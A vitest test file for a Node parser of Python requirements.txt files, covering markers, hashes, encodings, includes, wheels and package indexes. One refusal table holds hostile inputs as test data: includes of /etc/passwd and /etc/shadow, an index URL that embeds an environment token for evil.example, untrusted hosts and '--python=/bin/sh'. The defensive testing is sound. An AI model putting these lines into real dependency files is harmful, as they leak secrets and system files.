import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { MeshdeckError } from '@meshdeck/shared';
import { expect, it } from 'vitest';
import { temporaryFolder } from '../testing/test-agent.js';
import { readRequirements } from './requirements-file.js';

async function read(files: Record<string, string | Buffer>, sourceBuilds = false) {
  const folder = await temporaryFolder();
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, name)), { recursive: true });
    await writeFile(join(folder, name), content);
  }
  return readRequirements(folder, 'requirements.txt', { sourceBuilds });
}
const only = (text: string | Buffer, more: Record<string, string> = {}) =>
  read({ 'requirements.txt': text, ...more });
const refusal = async (work: Promise<unknown>) => {
  const problem = await work.then(
    () => undefined,
    (error: unknown) => error,
  );
  expect(problem).toBeInstanceOf(MeshdeckError);
  return problem as MeshdeckError;
};
const names = async (text: string | Buffer) =>
  (await only(text)).lines.map((line) => (line.kind === 'name' ? line.text : line));

it.each([
  [
    'a list as people write it',
    'numpy\npandas>=2.0,<3\nscikit-learn == 1.4.*\n',
    ['numpy', 'pandas>=2.0,<3', 'scikit-learn == 1.4.*'],
  ],
  [
    'conditions with and without blanks',
    'a==1;python_version<"3.9"\nb>=2 ; sys_platform == \'linux\' and extra == "x"',
    ['a==1 ; python_version<"3.9"', 'b>=2 ; sys_platform == \'linux\' and extra == "x"'],
  ],
  [
    'extras and old brackets',
    'uvicorn[standard]==0.27\nrequests [security] (>=2.8.1)\n',
    ['uvicorn[standard]==0.27', 'requests [security] (>=2.8.1)'],
  ],
  [
    'local versions, epochs and exact ones',
    'torch==2.1.0+cpu\npytz===2023c\nfoo!=1!2.0,~=1.4',
    ['torch==2.1.0+cpu', 'pytz===2023c', 'foo!=1!2.0,~=1.4'],
  ],
  [
    'comments, blank lines and Windows ends',
    '# made by hand\r\n\r\nsix # why\r\nidna==3.4 #x\r\n',
    ['six', 'idna==3.4'],
  ],
  [
    'hashes on lines that go on',
    'six==1.16.0 \\\n    --hash=sha256:' + 'a'.repeat(64) + ' \\\n    --hash=sha256:' + 'b'.repeat(64) + '\n',
    ['six==1.16.0 --hash=sha256:' + 'a'.repeat(64) + ' --hash=sha256:' + 'b'.repeat(64)],
  ],
])('takes %s', async (_what, text, expected) => {
  expect(await names(text)).toEqual(expected);
});

it('takes what PowerShell writes: UTF-16 with a mark, and UTF-8 with one', async () => {
  expect(await names(Buffer.from('\ufeffnumpy==1.26.4\r\nsix\r\n', 'utf16le'))).toEqual([
    'numpy==1.26.4',
    'six',
  ]);
  expect(await names(Buffer.from('\ufeffnumpy\n', 'utf8'))).toEqual(['numpy']);
  expect((await refusal(only(Buffer.from([0x6e, 0xff, 0x00])))).message).toContain('Save it as UTF-8');
});

it('follows what is included, relative to where it is named, and each file once', async () => {
  const found = await read({
    'requirements.txt': '-r deps/base.txt\n-c deps/pins.txt\n-r deps/base.txt\n',
    'deps/base.txt': '-r more.txt\nsix\n',
    'deps/more.txt': 'idna\n-r base.txt\n',
    'deps/pins.txt': 'six==1.16.0\n',
  });
  expect(found.lines.map((line) => line.kind === 'name' && line.text)).toEqual(['idna', 'six']);
  expect(found.constraints).toEqual([{ kind: 'name', text: 'six==1.16.0' }]);
});

it('takes wheels of the app, by path, and folders of them', async () => {
  const found = await only(
    './wheels/tiny-1.0-py3-none-any.whl\ntiny-1.0-py3-none-any.whl[x] ; os_name == "posix"\n--find-links ./wheels\n--no-index\n',
    {
      'wheels/tiny-1.0-py3-none-any.whl': 'x',
      'tiny-1.0-py3-none-any.whl': 'x',
    },
  );
  expect(found.lines).toEqual([
    { kind: 'file', path: 'wheels/tiny-1.0-py3-none-any.whl', extras: '', tail: '' },
    { kind: 'file', path: 'tiny-1.0-py3-none-any.whl', extras: '[x]', tail: ' ; os_name == "posix"' },
  ]);
  expect(found.links.folders).toEqual(['wheels']);
  expect(found.indexes.none).toBe(true);
});

it('takes wheels and indexes by https, such as those of spaCy and PyTorch', async () => {
  const spacy =
    'https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl';
  const found = await only(
    `en-core-web-sm @ ${spacy}#sha256=${'a'.repeat(64)}\n${spacy}\n--extra-index-url https://download.pytorch.org/whl/cpu\n-i https://pypi.org/simple\n-f https://data.pyg.org/whl/torch-2.0.0+cpu.html\n`,
  );
  expect(found.lines).toEqual([
    { kind: 'url', head: 'en-core-web-sm @ ', url: `${spacy}#sha256=${'a'.repeat(64)}`, tail: '' },
    { kind: 'url', head: '', url: spacy, tail: '' },
  ]);
  expect(found.indexes).toEqual({
    instead: 'https://pypi.org/simple',
    also: ['https://download.pytorch.org/whl/cpu'],
    none: false,
  });
  expect(found.links.pages).toEqual(['https://data.pyg.org/whl/torch-2.0.0+cpu.html']);
});

it.each([
  ['a file of the machine', '-r /etc/passwd', 'no file of the app'],
  ['a file beside the app', '-r ../other/requirements.txt', 'no file of the app'],
  ['a file elsewhere', '-r https://evil.example/more.txt', 'no file of the app'],
  ['constraints of the machine', '-c/etc/shadow', 'no file of the app'],
  ['a folder of the machine', '--find-links /root', 'no folder of the app'],
  ['an index without a certificate', '--index-url http://evil.example/simple', 'by https:// only'],
  ['an index on the disk', '--extra-index-url=file:///etc', 'by https:// only'],
  ['a host without a certificate', '--trusted-host evil.example', 'prove who they are'],
  ['the environment', 'six --hash=sha256:${SECRET}\n', 'nothing of the machine'],
  [
    'the environment in an index',
    '--index-url https://${TOKEN}@evil.example/simple',
    'nothing of the machine',
  ],
  ['the app itself, to be edited', '-e .', 'Put the code into the app itself'],
  [
    'a repository to be edited',
    '--editable git+https://github.com/a/b#egg=b',
    'Put the code into the app itself',
  ],
  ['a repository', 'b @ git+https://github.com/a/b@main', 'https://github.com/a/b/archive/main.tar.gz'],
  ['a repository over ssh', 'git+ssh://git@github.com/a/b.git', 'https://github.com/a/b/archive/HEAD.tar.gz'],
  [
    'what conda writes down',
    'numpy @ file:///croot/numpy_1701/work/dist/numpy-1.26.2-cp311.whl#sha256=ab',
    'Write numpy with its version',
  ],
  ['a wheel without a certificate', 'x @ http://evil.example/x-1.0-py3-none-any.whl', 'by https:// only'],
  ['options for building', 'six --config-settings="--build-option=x"', 'only --hash is taken'],
  ['another program', 'six --python=/bin/sh', 'only --hash is taken'],
  ['an option that is none', '--target /root', '--target'],
  ['a prefix', '--prefix=/usr', '--prefix'],
  ['no package', 'import os', 'no package with a version'],
  ['a link that is not there', './missing-1.0-py3-none-any.whl', 'is not in the app'],
  ['a wheel outside', '../../cache/x-1.0-py3-none-any.whl', 'is not in the app'],
])('refuses %s, and says where', async (_what, text, expected) => {
  const problem = await refusal(only(`six\n${text}\n`));
  expect(problem.code).toBe('app-invalid');
  expect(problem.message).toContain(expected);
  expect(problem.message).toMatch(/^Line 2 of requirements\.txt /);
});

it.each([
  ['an archive of source', 'https://example.org/x-1.0.tar.gz', {}],
  ['an archive of source by name', 'x @ https://github.com/a/b/archive/main.zip', {}],
  ['an archive in the app', './x-1.0.tar.gz', { 'x-1.0.tar.gz': 'x' }],
  ['a folder in the app', './x', { 'x/setup.py': 'import os' }],
  ['the app itself', '.', {}],
  ['source in place of a wheel', '--no-binary :all:', {}],
])('takes %s only where the machine builds from source, and names the setting', async (_what, text, more) => {
  const files = { 'requirements.txt': `${text}\n`, ...more };
  const problem = await refusal(read(files));
  expect(problem.code).toBe('requirements-failed');
  expect(problem.message).toContain('--allow-source-builds');
  await read(files, true);
});

it('ends with files that include each other without end', async () => {
  const files = Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`r${n}.txt`, `-r r${n + 1}.txt\n`]));
  const problem = await refusal(read({ 'requirements.txt': '-r r0.txt\n', ...files, 'r60.txt': '' }));
  expect(problem.message).toContain('more than 50 files');
});
